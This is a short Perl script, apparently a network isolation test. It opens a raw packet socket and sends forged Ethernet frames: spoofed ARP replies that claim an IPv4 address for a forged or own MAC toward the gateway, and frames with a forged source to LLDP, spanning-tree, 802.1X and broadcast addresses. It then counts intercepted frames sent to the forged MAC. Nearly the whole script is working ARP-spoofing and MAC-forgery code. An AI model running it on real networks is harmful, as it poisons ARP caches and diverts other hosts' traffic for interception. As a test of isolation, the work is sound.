# Sends frames with a forged source and counts frames to that address that arrive, for a while.
# Arguments: interface, forged MAC, own MAC, gateway MAC, forged IPv4 address, gateway's IPv4 address, seconds.
use strict;
use warnings;
use Socket;
use Time::HiRes qw(time);

my ($interface, $forged, $own, $gateway, $ip, $gateway_ip, $seconds) = @ARGV;
open(my $sys, '<', "/sys/class/net/$interface/ifindex");
# /sys may show another namespace, so that the index comes from the kernel.
socket(my $asker, AF_INET, SOCK_DGRAM, 0) or die "socket: $!";
my $request = pack('a16x16', $interface);
ioctl($asker, 0x8933, $request) or die "no index of $interface: $!";
my $index = unpack('x16i', $request);
socket(my $wire, 17, SOCK_RAW, unpack('S', pack('n', 0x0003))) or die "packet socket: $!";
my $place = pack('SnlSCCa8', 17, 0x0003, $index, 1, 0, 6, "\0" x 8);
bind($wire, $place) or die "bind: $!";

my $mac = sub { pack('H12', $_[0] =~ s/://gr) };
my $arp = sub {
  my ($target, $source, $sender) = @_;
  $mac->($target) . $mac->($source) . pack('nnnCCn', 0x0806, 1, 0x0800, 6, 4, 2)
    . $mac->($sender) . inet_aton($ip) . $mac->($gateway) . inet_aton($gateway_ip) . "\0" x 18;
};
my $raw = sub { my ($target, $type) = @_; $mac->($target) . $mac->($forged) . pack('n', $type) . "\0" x 46 };
my @frames = (
  $arp->($gateway, $forged, $forged),             # a forged source
  $arp->($gateway, $own, $own),                   # another's address behind the own MAC
  $raw->('ff:ff:ff:ff:ff:ff', 0x88b5),            # a type that nobody filters
  $raw->('01:80:c2:00:00:0e', 0x88cc),            # LLDP, which bridges receive themselves
  $raw->('01:80:c2:00:00:00', 0x0026),            # spanning tree
  $raw->('01:80:c2:00:00:03', 0x888e),            # port access control
);
my ($sent, $stolen, $turn) = (0, 0, 0);
my $wanted = $mac->($forged);
my $end = time + $seconds;
while (time < $end) {
  for (1 .. 4) { send($wire, $frames[$turn++ % @frames], 0, $place) and $sent++ }
  while (defined recv($wire, my $frame, 2048, 64)) {
    # Frames that this program sends come back as well, but from its own address or to others.
    $stolen++ if substr($frame, 0, 6) eq $wanted;
  }
  select(undef, undef, undef, 0.001);
}
print "{\"sent\":$sent,\"stolen\":$stolen}\n";
